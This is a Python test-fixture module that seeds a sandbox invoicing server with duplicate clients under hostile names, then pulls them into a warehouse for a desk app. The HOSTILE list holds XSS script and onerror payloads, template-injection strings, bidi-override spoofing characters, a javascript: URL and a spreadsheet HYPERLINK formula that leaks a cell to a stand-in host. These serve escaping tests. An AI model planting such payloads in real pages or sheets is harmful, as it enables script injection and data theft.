"""A sandbox with duplicates and hostile names, a warehouse pulled from it, and a desk before both."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from connector.door.door import Door, DoorSettings
from connector.door.secret import Secret
from flows.configuration.values import Settings, Source
from flows.desk.server import OpenDesk
from flows.pull.job import Job
from flows.pull.pull import pull
from sandbox.server import running
from tests.flows.conftest import Server
from tests.flows.desk.conftest import answering

HOSTILE = (
    "<b>bold</b> & \"quoted\" 'so'",
    '<script>window.taken = "over"</script><img src=x onerror="window.taken = 1">',
    "{{ 7 * 7 }} {% raise %}",
    "Right \u202egnp.reversed\u202c\u2066 and \u200fleft",
    "W" * 10_000,
    '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"Click")',
)
"""Names that break pages which show them as they come."""
SCRIPT = "javascript:window.taken='over'"


@dataclass
class Stage:
    """A sandbox, what its users do to it, and a desk."""

    server: Server
    settings: Settings
    opened: OpenDesk

    def pull(self) -> None:
        """Read the server's changes."""
        door = DoorSettings(self.server.box.url, requests_per_second=10_000)
        with Door(door, Secret(self.server.box.token)) as opened:
            pull(Job(self.settings, "main", opened))


def add_hostile(server: Server) -> None:
    """Create a client of each hostile name twice, so that it has a duplicate."""
    for number, name in enumerate(HOSTILE):
        contact = {"first_name": name[:200], "last_name": "", "email": f"hostile{number}@example.org"}
        for _ in range(2):
            server.call("POST", "/api/v1/clients", {
                "name": name, "website": SCRIPT, "vat_number": f"HOSTILE{number}", "private_notes": name,
                "public_notes": name, "city": name[:200], "contacts": [contact],
            })  # fmt: skip


@contextmanager
def staged(folder: Path, *, clients: int = 120, seed: int = 5, hostile: bool = False, **how: object) -> Iterator[Stage]:
    """Set all up, and pull once."""
    with running(clients=clients, seed=seed) as box, pytest.MonkeyPatch.context() as environment:
        environment.setenv("NINJA_SYNC_TOKEN", box.token)
        server = Server(box)
        if hostile:
            add_hostile(server)
        source = Source(url=box.url, requests_per_second=10_000, look_back=60)
        settings = Settings(warehouse=str(folder / "warehouse.duckdb"), sources={"main": source})
        with answering(settings, **how) as opened:
            stage = Stage(server, settings, opened)
            stage.pull()
            yield stage
